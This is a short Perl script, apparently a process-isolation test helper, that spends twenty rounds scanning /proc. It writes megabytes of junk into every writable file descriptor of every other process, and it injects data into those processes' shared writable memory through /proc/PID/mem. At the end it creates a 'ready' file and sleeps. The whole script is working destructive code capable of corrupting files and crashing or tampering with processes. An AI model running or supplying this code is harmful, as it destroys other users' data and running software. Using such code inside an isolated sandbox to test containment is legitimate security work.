# Writes into every descriptor of every process that lets it, and into the memory of every process.
use strict;
for my $round (1 .. 20) {
    for my $process (grep { $_ != $$ } map { m{(\d+)$} } glob '/proc/[0-9]*') {
        for my $descriptor (glob "/proc/$process/fd/*") {
            next if (readlink($descriptor) // '') =~ m{^(pipe:|socket:|/dev/|/task)};
            open(my $file, '+<', $descriptor) or next;
            syswrite($file, 'INJECTED' x 250_000);
        }
        open(my $memory, '+<', "/proc/$process/mem") or next;
        open(my $maps, '<', "/proc/$process/maps") or next;
        for (<$maps>) {
            my ($from, $to) = m{^(\w+)-(\w+) rw.s} or next;
            sysseek($memory, hex $from, 0) && syswrite($memory, 'INJECTED');
        }
    }
}
open(my $ready, '>', 'ready');
sleep 1000;
